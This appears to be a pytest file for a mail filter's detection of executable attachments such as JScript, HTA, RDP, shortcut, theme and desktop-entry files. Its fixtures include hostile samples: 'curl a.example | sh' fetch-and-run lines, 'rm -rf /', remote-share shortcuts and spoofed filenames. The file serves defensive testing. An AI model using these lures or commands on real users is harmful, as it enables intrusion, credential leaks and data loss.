"""Scripts and other texts that a double click runs, and the text that only looks like them."""

from __future__ import annotations

import bz2
import gzip
import lzma
import plistlib
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from contentfilter.content.limits import Budget, ScanOptions
from contentfilter.content.part import Context, Part
from contentfilter.content.scan import scan_document, scan_message
from contentfilter.disposition.policy import Policies
from contentfilter.disposition.verdict import decide
from contentfilter.pool.frames import Done
from contentfilter.pool.messages import decode, encode
from contentfilter.scanners.compressed import Compressed
from mailbase.config import FINDING_NAMES, ConfigError, loads
from mailbase.scripts import BY_CONTENT, SUFFIXES, detail, suffix_of
from mailbase.vocabulary import Action, Flow
from tests.samples.archives import plain_zip
from tests.samples.messages import attachment, message, multipart, text
from tests.samples.programs import pe

from ..scanned import scan

JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n'
REGISTRY = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"
ENCODED = b"#@~^DgAAAA==W{\x7fq,`)*bAAA==^#~@"
APPLICATION = b'<html><head><HTA:APPLICATION id="a"></head><script language="VBScript">x</script></html>'
ACCESS = (
    b"[Shortcut Properties]\r\nAccessShortcutVersion=1\r\nDatabaseName=a.accdb\r\nObjectName=AutoExec\r\n"
    b"ObjectType=Macro\r\nDatabasePath=\\\\10.0.0.1\\a\\a.accdb\r\n"
)
DESKTOP = b"[Desktop Entry]\nType=Application\nName=Invoice.pdf\nExec=%s\n"


def found(data: bytes, name: str) -> list[str]:
    result = scan(data, name=name)
    return [finding.detail for finding in result.findings if finding.name == "executable"]


@pytest.mark.parametrize("end", sorted(SUFFIXES.keys() - BY_CONTENT))
def test_a_script_by_what_its_suffix_starts(end: str):
    assert found(JSCRIPT, f"invoice.{end}") == [f"script .{end}: {SUFFIXES[end]}"]
    assert found(b"", f"invoice.{end}") == []


@pytest.mark.parametrize(
    "name",
    [
        "a.js", "A.JS", "a.js.", "a.js . ", "a.js ", "a.pdf.js", "a.js\0.txt", "a.txt\u202e.js", "a.js\u200b",
        "annexe\u202efdp.js", " .js", ".js", "a.j\u200bs", "b/../a.js", "c:\\a.js",
        "a.js::$DATA",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "data", [JSCRIPT, JSCRIPT.decode().encode("utf-16"), b"\xef\xbb\xbf" + JSCRIPT, b"x" * 9]
)
def test_spellings_of_a_suffix(name: str, data: bytes):
    assert len(found(data, name)) == 1


CONNECTION = (
    "screen mode id:i:2\r\nfull address:s:desk.example\r\nredirectclipboard:i:1\r\nredirectprinters:i:1\r\n"
)


@pytest.mark.parametrize("charset", ["ascii", "utf-16", "utf-8-sig"])
@pytest.mark.parametrize(
    "line",
    [
        "drivestoredirect:s:*",
        "drivestoredirect:s:C:\\;D:\\;",
        "redirectdrives:i:1",
        "usbdevicestoredirect:s:*",
        "RemoteApplicationMode:i:1",
        "alternate shell:s:\\\\tsclient\\c\\a.exe",
    ],
)
def test_connection_that_hands_over(line: str, charset: str):
    for lines in (CONNECTION + line, f"{line}\r\n{CONNECTION}", CONNECTION.replace("\r\n", "\r") + line):
        assert found(lines.encode(charset), "desk.rdp") == [detail("rdp")]
    assert found((CONNECTION + line).encode(charset), "desk.txt") == []


@pytest.mark.parametrize(
    "lines",
    ["", "drivestoredirect:s:\r\nalternate shell:s:\r\nredirectdrives:i:0\r\nremoteapplicationmode:i:0"],
)
def test_plain_connection(lines: str):
    assert found((CONNECTION + lines).encode("utf-16"), "desk.rdp") == []


@pytest.mark.parametrize(
    "url",
    ["file:///System/x.app", "FILE://a/b", "smb://a/b", "file:///\u00e4.app", f"file:///{'a' * 400}"],
)
def test_binary_location_of_macos(url: str):
    data = plistlib.dumps({"URL": url}, fmt=plistlib.FMT_BINARY)
    assert found(data, "invoice.inetloc") == ["macOS location"]
    assert found(data, "settings.plist") == []


def test_shell_script_that_is_an_application_of_macos():
    program = "Invoice.app/Contents/MacOS/Invoice"
    members = {program: b"#!/bin/sh\ncurl a.example | sh\n", "Invoice.app/Contents/Info.plist": b"<plist/>"}
    assert found(plain_zip(members), "a.zip") == ["macOS application"]
    assert found(plain_zip({"src/build": members[program]}), "a.zip") == []


def test_picture_that_is_a_script_as_well():
    assert len(found(b"GIF89a/*" + bytes(500) + b"*/=1;" + JSCRIPT, "a.js")) == 1


def test_in_mail_and_archive():
    mail = message(
        multipart(text(), attachment(JSCRIPT, "a.js"), attachment(plain_zip({"b/a.vbs": b"x"}), "b.zip"))
    )
    parts = [finding.part for finding in scan_message(mail).findings if finding.name == "executable"]
    assert parts == ["2/a.js", "3/b.zip/b/a.vbs"]


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        ("Content-Type: application/javascript\r\nContent-Disposition: attachment\r\n", ["script .js"]),
        ("Content-Type: text/VBScript\r\nContent-Disposition: attachment\r\n", ["script .vbs"]),
        ("Content-Type: application/hta\r\nContent-Disposition: attachment\r\n", ["script .hta"]),
        (
            'Content-Type: text/javascript\r\nContent-Disposition: attachment; filename="a.txt"\r\n',
            [],
        ),
        (
            'Content-Type: application/hta\r\nContent-Disposition: attachment; filename="invoice"\r\n',
            ["script .hta"],
        ),
        ("Content-Type: text/javascript\r\n", []),
        ("Content-Type: text/plain\r\nContent-Disposition: attachment\r\n", []),
    ],
)
def test_an_attachment_without_a_name_is_saved_by_its_type(head: str, expected: list[str]):
    findings = scan_message(message(multipart(text(), head.encode() + b"\r\n" + JSCRIPT))).findings
    assert [item.detail.partition(":")[0] for item in findings if item.name == "executable"] == expected


@pytest.mark.parametrize("end", sorted(SUFFIXES.keys() - BY_CONTENT))
def test_of_two_names_in_a_mail_the_script_counts(end: str):
    head = f'Content-Type: a/b; name="a.{end}"\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\n'
    findings = scan_message(message(multipart(text(), head.encode() + b"x = 1"))).findings
    assert "executable" in {finding.name for finding in findings}


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_names_of_what_was_packed(pack: Callable[[bytes], bytes]):
    end = {gzip.compress: "gz", bz2.compress: "bz2", lzma.compress: "xz"}[pack]
    assert len(found(pack(pack(JSCRIPT)), f"a.js.{end}.{end}")) == 1
    package = Part("2/a.rtf", pack(JSCRIPT)).piece("package", pack(JSCRIPT), f"a.js.{end}")
    context = Context(package, Budget(ScanOptions()))
    assert [item.name for item in Compressed().scan(package, context) if isinstance(item, Part)] == ["a.js"]


def test_names_of_what_was_packed_twice_in_one_way():
    frame = b"\x28\xb5\x2f\xfd\x20"
    raw = frame + bytes((len(JSCRIPT),)) + (len(JSCRIPT) << 3 | 1).to_bytes(3, "little") + JSCRIPT
    twice = frame + bytes((len(raw),)) + (len(raw) << 3 | 1).to_bytes(3, "little") + raw
    assert len(found(twice, "a.js.zst.zst")) == 1


def test_name_that_gzip_keeps():
    def packed(name: str, extra: bytes = b"") -> bytes:
        whole = gzip.compress(JSCRIPT)
        flags = 8 | (4 if extra else 0)
        return whole[:3] + bytes((flags,)) + whole[4:10] + extra + name.encode() + b"\0" + whole[10:]

    assert found(packed("invoice.js"), "invoice.gz") == [detail("js")]
    assert found(packed("invoice.js", b"\3\0abc"), "invoice.gz") == [detail("js")]
    assert found(packed("invoice.txt"), "invoice.js.gz") == [detail("js")]
    assert found(packed("invoice.txt"), "invoice.gz") == []
    assert found(gzip.compress(JSCRIPT), "invoice.gz") == []


def test_in_what_pretends_to_be_a_document():
    whole = plain_zip({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<x/>", "invoice.js": JSCRIPT})
    assert found(whole, "a.zip") == [detail("js") + " in invoice.js"]


@pytest.mark.parametrize("name", ["x", "a.pdf", "invoice", "a.xml"])
@pytest.mark.parametrize("wide", ["", "utf-16", "utf-16-le", "utf-8-sig"])
@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (ENCODED.replace(b"\x7f", b"-"), "encoded script"),
        (REGISTRY, "registry entries"),
        (b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER]\r\n", "registry entries"),
        (APPLICATION, "HTML application"),
        (b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0">', "management console"),
        (b'<?xml version="1.0"?><scriptlet><registration progid="a"/>', "script component"),
        (
            b'<package><job id="a"><script language="JScript">x</script></job></package>',
            "Windows Script Host",
        ),
        (
            b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">',
            "Windows library",
        ),
        (b'<searchConnectorDescription xmlns="http://schemas.microsoft.com/x">', "search connector"),
        (b"<persistedQuery version='1.0'>", "saved search"),
        (b"<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd", "settings shortcut"),
        (b'<?xml version="1.0"?>\n<jnlp spec="1.0+" codebase="http://a.example">', "Java Web Start"),
        (b'<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">', "app installer"),
        (b'<asmv1:assembly xmlns="urn:x"><assemblyIdentity/><deployment install="true"/>', "ClickOnce"),
        (b"http://a.example/a.application#A.app, Version=1, PublicKeyToken=00, x=1", "ClickOnce"),
        (b"[InternetShortcut]\r\nURL=file://10.0.0.1@80/a.exe\r\n", "shortcut to a file or program"),
        (
            b"[InternetShortcut]\r\nURL=http://a\r\nIconFile=\\\\10.0.0.1\\a\r\n",
            "shortcut to a file or program",
        ),
        (b"[InternetShortcut]\r\nWorkingDirectory=\\\\a@ssl\\b\r\n", "shortcut to a file or program"),
        (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\a.ico\r\n", "Explorer command"),
        (ACCESS, "shortcut into a database of Access"),
        (b"[Theme]\r\nDisplayName=x\r\nWallpaper=\\\\10.0.0.1\\a.jpg\r\n", "theme from another machine"),
        (b"[VisualStyles]\r\nPath=//10.0.0.1/a/b.msstyles\r\n", "theme from another machine"),
        (b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=file://10.0.0.1/a.scr\r\n", "theme from another machine"),
        (b"<plist><dict><key>URL</key><string>file:///System/Applications/Calculator.app", "macOS location"),
        (b"<plist><dict><key>CommandString</key><string>ls", "macOS Terminal"),
    ],
)
def test_what_tells_by_its_content(data: bytes, kind: str, name: str, wide: str):
    if wide:
        data = data.decode().encode(wide)
    assert found(data, name)[0] == kind


@pytest.mark.parametrize(
    "command",
    [
        b"bash -c 'curl a.example|sh'",
        b"sh -c x",
        b"/bin/bash -lc x",
        b"python3 -c 'import os'",
        b"perl -e 1",
        b"wget a",
        b'sh "-c" x `id`',
        b"/tmp/a",
    ],
)
def test_desktop_entry_that_starts_a_shell(command: bytes):
    assert len(found(DESKTOP % command, "Invoice.desktop")) == 1


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (
            b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://a/b\r\n",
            "a.url",
        ),
        (b"; a comment\r\n[InternetShortcut]\r\nURL=C:\\Windows\\System32\\calc.exe\r\n", "a.url"),
        (b"[DEFAULT]\r\nBASEURL=\r\n[InternetShortcut]\r\nIconFile=\\\\10.0.0.1\\a.ico\r\n", "a.website"),
        (b"#!/usr/bin/env xdg-open\n" + DESKTOP % b"sh -c x", "a.desktop"),
        (b"; x\r\n[Shell]\r\nCommand=2\r\n", "a.scf"),
        (b"; x\r\n" * 9000 + b"[InternetShortcut]\r\nURL=file://10.0.0.1/a.exe\r\n", "a.url"),
        (b"[InternetShortcut]\rURL=file://10.0.0.1/a.exe\r", "a.url"),
        (b"[ InternetShortcut ]\r\nURL=file://10.0.0.1/a.exe\r\n", "a.url"),
        (b"; x\r\n" + ACCESS, "a.mam"),
        (b"; x\r\n[VisualStyles]\r\nPath=\\\\10.0.0.1\\a.msstyles\r\n", "a.theme"),
    ],
)
def test_entries_behind_other_ones(data: bytes, name: str):
    assert len(found(data, name)) == 1


# Text that is to be read.

QUOTED = [
    JSCRIPT,
    REGISTRY,
    APPLICATION[6:],
    b"@echo off\r\ndel *.*\r\n",
    b"#!/bin/sh\nrm -rf /\n",
    DESKTOP % b"sh -c x",
]


@pytest.mark.parametrize("data", QUOTED)
def test_text_that_quotes_a_program(data: bytes):
    for name in ("a.txt", "server.log", "fix.patch", "README.md", "a.js.txt"):
        assert found(data, name) == []
    assert scan_message(message(text(data))).findings == ()
    assert scan_message(message(multipart(text(data), text(b"<pre>" + data)))).findings == ()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"#include <stdio.h>\nint main() {}\n", "main.c"),
        (b"import os\nos.system('ls')\n", "tool.py"),
        (b"#!/bin/bash\nset -e\n", "build.sh"),
        (b"#!/usr/bin/perl\nprint 1;\n", "x.pl"),
        (b"<?php echo 1; ?>", "index.php"),
        (b"<!DOCTYPE html><html><script>track()</script></html>", "page.html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "logo.svg"),
        (b"function f() {}", "notes.json"),
        (b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=C:\\a.ico\r\n", "page.url"),
        (DESKTOP % b"gedit %U", "org.gnome.gedit.desktop"),
        (DESKTOP % b"env PYTHONPATH=/usr/share/x python3 /usr/bin/x", "x.desktop"),
        (b"[settings]\r\ncommand=2\r\n", "settings.ini"),
        (b"[Theme]\r\nDisplayName=x\r\n[Slideshow]\r\nItem0Path=C:\\a.jpg\r\n", "a.theme"),
        (b"[Theme]\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\Aero.msstyles\r\n", "a.theme"),
        (b"[.ShellClassInfo]\r\nLocalizedResourceName=@shell32.dll,-21787\r\n", "desktop.ini"),
        (b"<plist><dict><key>URL</key><string>https://www.example.org/", "page.webloc"),
        (plistlib.dumps({"URL": "https://www.example.org/"}, fmt=plistlib.FMT_BINARY), "page.webloc"),
        (plistlib.dumps({"URL": "https://a.example/linux-tips:x"}, fmt=plistlib.FMT_BINARY), "a.webloc"),
        (plistlib.dumps({"URL": "https://a.example/latex-pdf:x"}, fmt=plistlib.FMT_BINARY), "a.webloc"),
        (b"<plist><dict><key>CFBundleName</key><string>x", "Info.plist"),
        (b"<?xml version='1.0'?><assembly xmlns='urn:x'><assemblyIdentity/></assembly>", "app.manifest"),
        (b"<?xml version='1.0'?><project><job>x</job></project>", "config.xml"),
        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "invite.ics"),
        (b"http://www.example.org/page#top", "link"),
        (b"Reg. your mail of today", "x"),
        (b"#@~^ is how encoded scripts begin", "x"),
        (b"%PDF-1.4 ...", "www.js.pdf"),
        (b"a,b\r\n1,2\r\n", "js"),
        (b"hello", "README"),
        (b"hello", "a.cmd.txt"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "a.png"),
        (b"x", "." + "y" * 3000),
    ],
)  # fmt: skip
def test_honest_files(data: bytes, name: str):
    assert found(data, name) == []


def test_worksheets_of_geogebra():
    members = {"geogebra.xml": b"<geogebra/>", "geogebra_javascript.js": b"function ggbOnInit() {}"}
    assert found(plain_zip(members), "worksheet.ggb") == []
    assert len(found(plain_zip(members), "worksheet.zip")) == 1
    assert len(found(plain_zip({"a.js": JSCRIPT} | members), "worksheet.ggb")) == 1
    assert len(found(plain_zip({"geogebra_javascript.js": pe()}), "worksheet.ggb")) == 1


def test_scripts_in_exercises_and_books():
    exercise = {"h5p.json": b"{}", "content/content.json": b"{}", "H5P.Text-1.1/text.js": JSCRIPT}
    book = {"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<x/>", "OEBPS/a.js": JSCRIPT}
    for members, name in ((exercise, "exercise.h5p"), (book, "book.epub")):
        assert found(plain_zip(members), name) == []
        assert len(found(plain_zip(members), "a.zip")) == 1
        assert len(found(plain_zip(members | {"a.vbs": JSCRIPT}), name)) == 1
        assert len(found(plain_zip(members | {"b.js": pe()}), name)) == 1
        assert len(found(plain_zip({"a.js": JSCRIPT}), name)) == 1


def test_what_is_built_to_stall():
    for piece in (
        b"<job>",
        b"<assembly ",
        b"<component ",
        b"<pcsettings",
        b"exec=",
        b"[internetshortcut]\nurl=",
        b"#a",
    ):
        found(b"<deployment<registration<script<deeplink" + piece * 1000, "x")
        found(b"[desktop entry]\n" + piece * 1000, "x")
        found(b"http" + piece * 1000, "x")


def test_every_suffix_is_documented():
    page = (Path(__file__).parents[4] / "docs" / "findings.md").read_text(encoding="utf-8")
    listed = re.search(r"<!-- suffixes -->(.*?)<!-- end -->", page, re.DOTALL)
    assert listed is not None
    assert set(re.findall(r"`\.([\w-]+)`", listed[1])) == set(SUFFIXES)


# Scripts that the postmaster lets through.


def action(data: bytes, passed: str) -> Action:
    """What inbound mail's policy says to an archive, by way of a worker's answer."""
    settings = loads(f"flows: {{inbound: {{passed_scripts: [{passed}]}}}}")
    answer = decode(encode(Done(scan_document("a.zip", data)))[4:], FINDING_NAMES)
    assert isinstance(answer, Done)
    return decide("id", Flow.INBOUND, Policies(settings).of_flow(Flow.INBOUND), [answer.result]).action


def test_scripts_that_are_let_through():
    page = plain_zip({"site/index.html": b"<html>", "site/a.js": JSCRIPT, "site/b.js": JSCRIPT})
    assert action(page, "") is Action.REJECT
    assert action(page, "js") is action(page, ".JS, vbs") is Action.ACCEPT
    assert action(page, "vbs") is Action.REJECT
    assert action(plain_zip({"a.js": JSCRIPT, "b.vbs": b"x"}), "js") is Action.REJECT
    assert action(plain_zip({"a.js": pe()}), "js") is Action.REJECT


def test_scripts_that_are_let_through_do_not_crowd_out_others():
    members = {f"{number}.{end}": b"x" for number in range(60) for end in ("js", "bat", "cmd")}
    assert action(plain_zip(members), "js, bat, cmd") is Action.ACCEPT
    assert action(plain_zip(members | {"z.vbs": b"x"}), "js, bat, cmd") is Action.REJECT
    assert action(plain_zip(members | {"z.exe": pe()}), "js, bat, cmd") is Action.REJECT


def test_a_suffix_that_is_none_of_a_script():
    with pytest.raises(ConfigError, match="no script is told by the suffix 'exe'"):
        loads("flows: {inbound: {passed_scripts: [exe]}}")


@pytest.mark.parametrize("suffix", sorted(SUFFIXES))
def test_detail_and_suffix(suffix: str):
    assert suffix_of(detail(suffix)) == suffix
    assert suffix_of("PE") == suffix_of("") == suffix_of("script") == ""
